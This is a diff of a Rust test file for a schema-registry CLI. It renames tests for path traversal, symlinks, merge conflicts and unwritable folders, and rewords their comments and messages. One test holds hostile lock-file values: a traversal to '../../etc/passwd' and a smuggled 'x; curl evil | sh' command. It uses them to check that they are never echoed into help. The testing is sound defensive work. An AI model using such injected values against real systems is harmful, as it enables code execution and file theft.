@@ -1,5 +1,5 @@
-//! Folders that somebody else, a merge or an accident has made: each command says what is wrong, and leaves nothing
-//! half written.
+//! Folders that an attacker, a merge or an accident made: each command reports the problem, and leaves nothing half
+//! written.
 
 use std::os::unix::fs::{PermissionsExt, symlink};
 use std::path::Path;
@@ -28,7 +28,7 @@ fn links_out_of_the_folder_or_around_it_are_errors_and_are_not_read() {
 }
 
 #[test]
-fn names_that_no_file_system_takes_are_refused_with_the_reason() {
+fn names_too_long_for_a_file_system_are_refused_with_the_reason() {
     let scratch = Scratch::locked();
     let long = "x".repeat(300);
     for args in [
@@ -50,12 +50,12 @@ fn names_that_no_file_system_takes_are_refused_with_the_reason() {
 }
 
 #[test]
-fn names_with_control_characters_or_separators_are_no_events() {
+fn names_with_control_characters_or_separators_are_refused() {
     let scratch = Scratch::empty();
     scratch.write("order.json", ORDER_1_0.replace("OrderPlaced", "x"));
     for name in ["a/b", "../../x", "a\\b", "a\nb", "a\u{1b}[31mb"] {
         let run = scratch.run(&["import", "order.json", "--registry", "shop", "--name", name]);
-        run.says(2, &["error[bad-event-name]", "it holds"]);
+        run.says(2, &["error[bad-event-name]", "it contains"]);
         assert!(!run.err.contains('\u{1b}'), "{:?}", run.err);
         assert!(!scratch.path("schemas").exists());
     }
@@ -67,7 +67,7 @@ fn names_with_control_characters_or_separators_are_no_events() {
 }
 
 #[test]
-fn merge_conflict_in_the_lock_stops_every_command_that_asks_it() {
+fn merge_conflict_in_the_lock_stops_every_command_that_reads_it() {
     let scratch = Scratch::locked();
     let lock = scratch.read("schemas/schemas.lock");
     let (a, b, c) = ("<".repeat(7), "=".repeat(7), ">".repeat(7));
@@ -94,7 +94,7 @@ fn merge_conflict_in_the_lock_stops_every_command_that_asks_it() {
 }
 
 #[test]
-fn folder_that_cannot_be_written_is_said_and_left_as_it_was() {
+fn folder_that_cannot_be_written_is_an_error_and_unchanged() {
     let scratch = Scratch::locked();
     scratch.write("order.sent.json", ORDER_1_0);
     let set = |mode: u32| {
@@ -105,7 +105,7 @@ fn folder_that_cannot_be_written_is_said_and_left_as_it_was() {
     };
     let before = tree(&scratch.path("schemas"));
     set(0o555);
-    // who may do everything cannot be refused
+    // root can write everywhere
     let refused = std::fs::write(scratch.path("schemas/x"), "").is_err();
     if refused {
         for command in [
@@ -125,7 +125,7 @@ fn folder_that_cannot_be_written_is_said_and_left_as_it_was() {
 }
 
 #[test]
-fn topology_in_a_folder_that_cannot_be_read_is_not_passed_over() {
+fn topology_in_an_unreadable_folder_is_an_error() {
     let scratch = Scratch::empty();
     let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../example-service/topology.json");
     let topology = std::fs::read(example).unwrap();
@@ -151,15 +151,15 @@ fn topology_in_a_folder_that_cannot_be_read_is_not_passed_over() {
     assert!(named.out.contains("AWS::Events::Rule"), "{}", named.out);
 }
 
-/// A file where a folder is needed fails as a full disk does, for whoever runs the test.
+/// A file in the place of a folder fails as a full disk does, even for root.
 #[test]
-fn folders_made_for_a_file_that_cannot_be_written_are_taken_back() {
+fn folders_for_a_file_that_cannot_be_written_are_removed() {
     let scratch = Scratch::locked();
     scratch.write("in/a.one/1.0.json", ORDER_1_0.replace("OrderPlaced", "a"));
     scratch.write("in/b.two/1.0.json", ORDER_1_0.replace("OrderPlaced", "b"));
     scratch.write("schemas/_block", "");
     let before = tree(&scratch.path("schemas"));
-    // the second event's folder is a file
+    // the folder of the second event is a file
     scratch.write("schemas/shop/b.two", "");
     let run = scratch.run(&["import", "in"]);
     run.says(2, &["error[unwritable]", "nothing was imported"]);
@@ -169,7 +169,7 @@ fn folders_made_for_a_file_that_cannot_be_written_are_taken_back() {
 }
 
 #[test]
-fn parts_of_killed_writers_are_passed_over() {
+fn temporary_files_of_killed_writers_are_skipped() {
     let scratch = Scratch::locked();
     for name in ["1.2.json.part77", "1.2.json.part77-3"] {
         scratch.write(&format!("{ORDER}/{name}"), "{ half");
@@ -220,7 +220,7 @@ fn thousand_events_and_windows_line_ends_are_read_in_every_command() {
     assert_eq!(list["versions"].as_array().unwrap().len(), 1_000);
 }
 
-/// `cargo event ARGS`, killed where it does not end by itself.
+/// Runs `cargo event ARGS`, and kills it if it does not end.
 fn bounded(scratch: &Scratch, args: &[&str]) -> crate::scratch::Run {
     let begun = std::time::Instant::now();
     let mut command = scratch.command(args);
@@ -269,7 +269,7 @@ fn lock_behind_a_link_out_of_the_folder_is_not_read() {
 }
 
 #[test]
-fn pipes_and_folders_in_place_of_files_are_said_and_not_waited_for() {
+fn pipes_and_folders_in_place_of_files_are_errors() {
     let pipe = |path: std::path::PathBuf| {
         assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
     };
@@ -294,7 +294,7 @@ fn pipes_and_folders_in_place_of_files_are_said_and_not_waited_for() {
 }
 
 #[test]
-fn names_in_the_lock_never_reach_a_suggested_command() {
+fn hostile_names_in_the_lock_never_reach_a_suggested_command() {
     let scratch = Scratch::locked();
     let lock = scratch.read("schemas/schemas.lock");
     for (registry, event) in [("../../etc", "passwd"), ("shop", "x; curl evil | sh"), ("", "x")] {
@@ -310,7 +310,7 @@ fn names_in_the_lock_never_reach_a_suggested_command() {
 }
 
 #[test]
-fn folders_that_differ_in_case_alone_are_an_error() {
+fn folders_that_differ_only_in_case_are_an_error() {
     let scratch = Scratch::locked();
     scratch.run(&["new", "Order.Placed"]).says(2, &["error[bad-event-name]", "ignore case"]);
     scratch.write("schemas/shop/Order.Placed/1.0.json", ORDER_1_0);
@@ -323,7 +323,7 @@ fn folders_that_differ_in_case_alone_are_an_error() {
 }
 
 #[test]
-fn nobody_is_told_to_write_over_a_version() {
+fn help_never_suggests_to_overwrite_a_version() {
     let scratch = Scratch::locked();
     for file in ["v1.0.json", "1.0.json~", "1.0.JSON", "1.0.yaml"] {
         scratch.write(&format!("{ORDER}/{file}"), ORDER_1_0);
@@ -343,7 +343,7 @@ fn nobody_is_told_to_write_over_a_version() {
 }
 
 #[test]
-fn slips_in_the_names_of_the_lock_and_the_settings_are_said() {
+fn misspelled_names_of_the_lock_and_the_settings_are_errors() {
     for (file, own) in [
         ("schema.lock", "schemas.lock"),
         ("schemas.Lock", "schemas.lock"),
@@ -363,11 +363,11 @@ fn slips_in_the_names_of_the_lock_and_the_settings_are_said() {
     scratch.run(&["check"]).says(0, &[]);
 }
 
-/// Both edits are saved where nothing is: following all of the help loses neither.
+/// Following the help for both edits saves each under another name.
 #[test]
-fn help_for_several_edited_versions_saves_each_under_a_number_of_its_own() {
+fn help_for_several_edited_versions_saves_each_as_another_version() {
     let scratch = Scratch::locked();
-    // there, and unreadable: as taken as any other
+    // an unreadable file also takes its version
     scratch.write(&format!("{ORDER}/1.2.json"), b"\xff");
     for version in ["1.0", "1.1"] {
         let file = format!("{ORDER}/{version}.json");
@@ -379,7 +379,7 @@ fn help_for_several_edited_versions_saves_each_under_a_number_of_its_own() {
 }
 
 #[test]
-fn merge_conflict_in_the_settings_is_called_one() {
+fn merge_conflict_in_the_settings_is_reported_as_one() {
     let scratch = Scratch::locked();
     let (a, b, c) = ("<".repeat(7), "=".repeat(7), ">".repeat(7));
     scratch.write(
@@ -399,15 +399,15 @@ fn versions_that_both_branches_locked_merge_into_one_lock() {
     scratch.write("schemas/schemas.lock", format!("{lock}{}", &lock[entry..]));
     scratch.run(&["check"]).says(0, &[]);
     scratch.run(&["lock"]).says(0, &[]);
-    // whoever writes it next writes each once
+    // the next write lists each once
     scratch.run(&["new", "order.sent"]).says(0, &[]);
     scratch.run(&["lock"]).says(0, &[]);
     assert_eq!(scratch.read("schemas/schemas.lock").matches("[[schema]]").count(), 3);
 }
 
-/// A folder that looks like a repository without a work tree brings a configuration of its own.
+/// A folder that looks like a bare repository has its own configuration.
 #[test]
-fn repository_inside_the_schema_folder_is_not_asked() {
+fn repository_inside_the_schema_folder_is_not_used() {
     let scratch = Scratch::locked();
     let git = |folder: &str, args: &[&str]| {
         let mut command = std::process::Command::new("git");
@@ -428,7 +428,7 @@ fn repository_inside_the_schema_folder_is_not_asked() {
         .unwrap();
     }
     let run = scratch.run(&["unlock", "order.placed@1.1"]);
-    run.says(2, &["error[git-failed]", "the repository cannot be read"]);
+    run.says(2, &["error[git-failed]", "failed to read the repository"]);
     scratch.run(&["check", "--against", "git:HEAD"]).says(2, &["error[git-failed]"]);
 }
 
